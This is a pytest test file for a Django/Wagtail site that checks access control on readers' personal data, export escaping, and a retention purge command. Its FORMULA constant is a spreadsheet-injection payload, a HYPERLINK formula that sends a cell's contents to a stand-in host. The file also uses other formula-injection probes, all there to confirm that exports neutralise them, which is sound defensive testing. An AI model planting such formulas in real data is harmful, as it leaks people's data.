"""Readers' personal data (Decree 13/2023/ND-CP): contact messages and legal questions are seen and exported only
by "Tiếp nhận ý kiến bạn đọc" and administrators; exports neutralise formulas; after the retention period the
command deletes them, or anonymises a published question."""

import csv
import datetime
import io

import pytest
from django.contrib.auth.models import Group
from django.core.management import call_command
from django.test import Client
from django.utils import timezone
from openpyxl import load_workbook
from wagtail.contrib.forms.models import FormSubmission

from contact.models import ContactPage
from editorial import roles
from legal_qa.models import LegalQAPage, LegalQuestion, Status

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://example.invalid/?"&A1,"Bấm")'


@pytest.fixture
def contact_page(home):
    page = ContactPage.objects.child_of(home).get()
    FormSubmission.objects.filter(page=page).delete()
    return page


def message(contact_page, name="Nguyễn Thị Lan", **data):
    data = {
        "name": name,
        "email": "lan@example.invalid",
        "phone": "",
        "subject": "Hỏi về thủ tục",
        "message": "Nội dung.",
        **data,
    }
    return FormSubmission.objects.create(page=contact_page, form_data=data)


def login(user):
    client = Client()
    client.force_login(user)
    return client


@pytest.fixture
def people(editor, approver, reader_messages_handler, admin_user):
    return {"editor": editor, "approver": approver, "handler": reader_messages_handler, "admin": admin_user}


@pytest.mark.parametrize(
    ("role", "allowed"), [("editor", False), ("approver", False), ("handler", True), ("admin", True)]
)
def test_contact_messages_are_for_those_who_handle_them(people, contact_page, role, allowed):
    message(contact_page)
    client = login(people[role])
    listing = client.get(f"/admin/forms/submissions/{contact_page.pk}/")
    export = client.get(f"/admin/forms/submissions/{contact_page.pk}/?export=csv")
    forms = client.get("/admin/reader-messages/")
    if allowed:
        assert listing.status_code == 200 and "Nguyễn Thị Lan" in listing.content.decode()
        assert "lan@example.invalid" in b"".join(export.streaming_content).decode()
        assert f"/admin/forms/submissions/{contact_page.pk}/" in forms.content.decode()
        assert "/admin/reader-messages/" in client.get("/admin/").content.decode()  # the menu leads there
    else:
        for response in (listing, export):
            assert response.status_code in (302, 403)
            assert "lan@example.invalid" not in response.content.decode()
        assert forms.status_code in (302, 403)
        assert "/admin/reader-messages/" not in client.get("/admin/").content.decode()
        # Nor does the contact page's editor show the count and link.
        editor_html = client.get(f"/admin/pages/{contact_page.pk}/edit/").content.decode()
        assert f"/admin/forms/submissions/{contact_page.pk}/" not in editor_html


@pytest.mark.parametrize(
    ("role", "allowed"), [("editor", False), ("approver", False), ("handler", True), ("admin", True)]
)
def test_legal_questions_and_their_askers_are_for_those_who_handle_them(people, role, allowed):
    question = LegalQuestion.objects.create(question="Hỏi về lương?", asker_name="Trần Văn Bình")
    client = login(people[role])
    listing = client.get("/admin/snippets/legal_qa/legalquestion/")
    edit = client.get(f"/admin/snippets/legal_qa/legalquestion/edit/{question.pk}/")
    if allowed:
        assert listing.status_code == 200 and "Trần Văn Bình" in edit.content.decode()
    else:
        assert listing.status_code in (302, 403) and edit.status_code in (302, 403)
        assert "Trần Văn Bình" not in edit.content.decode()


def test_the_group_is_created_by_migration_with_the_questions_approvers_lose_them():
    group = Group.objects.get(name=roles.READER_MESSAGES)
    codenames = set(group.permissions.values_list("codename", flat=True))
    assert {"access_admin", "view_legalquestion", "change_legalquestion"} <= codenames
    approvers = Group.objects.get(name=roles.APPROVERS)
    assert not approvers.permissions.filter(content_type__app_label="legal_qa").exists()


def test_contact_exports_neutralise_formulas(reader_messages_handler, contact_page):
    message(contact_page, name="@SUM(1+1)", subject="+84 912 345 678", message=FORMULA, phone="-1")
    client = login(reader_messages_handler)
    response = client.get(f"/admin/forms/submissions/{contact_page.pk}/?export=csv")
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    row = rows[1]
    assert "'@SUM(1+1)" in row and "'+84 912 345 678" in row and f"'{FORMULA}" in row and "'-1" in row
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row)

    response = client.get(f"/admin/forms/submissions/{contact_page.pk}/?export=xlsx")
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    cells = [cell.value for cell in list(sheet.rows)[1]]
    assert f"'{FORMULA}" in cells and "'@SUM(1+1)" in cells
    assert all(cell.data_type != "f" for cell in list(sheet.rows)[1])


def test_legal_question_exports_neutralise_formulas(reader_messages_handler):
    LegalQuestion.objects.create(question=FORMULA, asker_name="=1+2", asker_phone="+84 987 654 321")
    response = login(reader_messages_handler).get("/admin/snippets/legal_qa/legalquestion/?export=csv")
    content = b"".join(response.streaming_content).decode()
    rows = list(csv.reader(io.StringIO(content)))
    assert any(f"'{FORMULA}" in row and "'=1+2" in row and "'+84 987 654 321" in row for row in rows)


def aged(days):
    return timezone.now() - datetime.timedelta(days=days)


def test_the_command_deletes_or_anonymises_what_is_older_than_the_retention_period(client, contact_page, settings):
    settings.PERSONAL_DATA_RETENTION_DAYS = 365
    old_message = message(contact_page, name="Người cũ")
    FormSubmission.objects.filter(pk=old_message.pk).update(submit_time=aged(400))
    recent_message = message(contact_page, name="Người mới")

    never_published = LegalQuestion.objects.create(
        question="Câu hỏi cũ chưa trả lời?", asker_name="A", submitted_at=aged(400)
    )
    published = LegalQuestion.objects.create(
        question="Câu hỏi cũ đã trả lời về tiền lương làm thêm giờ?",
        answer="<p>Trả ít nhất 150%.</p>",
        status=Status.PUBLISHED,
        asker_name="Trần Văn Bình",
        asker_email="binh@example.invalid",
        asker_phone="0987 654 321",
        submitted_at=aged(400),
    )
    recent = LegalQuestion.objects.create(question="Câu hỏi mới?", asker_name="C", asker_email="c@example.invalid")

    out = io.StringIO()
    call_command("purge_personal_data", "--dry-run", stdout=out)
    assert "1 tin nhắn liên hệ đã xoá" in out.getvalue()
    assert FormSubmission.objects.filter(pk=old_message.pk).exists()
    assert LegalQuestion.objects.filter(pk=never_published.pk).exists()

    out = io.StringIO()
    call_command("purge_personal_data", stdout=out)
    report = out.getvalue()
    assert "1 tin nhắn liên hệ đã xoá" in report
    assert "1 câu hỏi pháp luật chưa từng đăng đã xoá" in report
    assert "1 câu hỏi pháp luật đã đăng được xoá thông tin người hỏi" in report

    assert not FormSubmission.objects.filter(pk=old_message.pk).exists()
    assert FormSubmission.objects.filter(pk=recent_message.pk).exists()
    assert not LegalQuestion.objects.filter(pk=never_published.pk).exists()
    published.refresh_from_db()
    assert (published.asker_name, published.asker_email, published.asker_phone) == ("", "", "")
    recent.refresh_from_db()
    assert recent.asker_name == "C" and recent.asker_email == "c@example.invalid"
    # The published answer stays public.
    qa_page = LegalQAPage.objects.live().first()
    assert "tiền lương làm thêm giờ" in client.get(qa_page.url).content.decode()


def test_the_command_refuses_a_nonsense_period_with_a_message():
    with pytest.raises(Exception, match="ít nhất|trở lên"):
        call_command("purge_personal_data", "--days", "0")
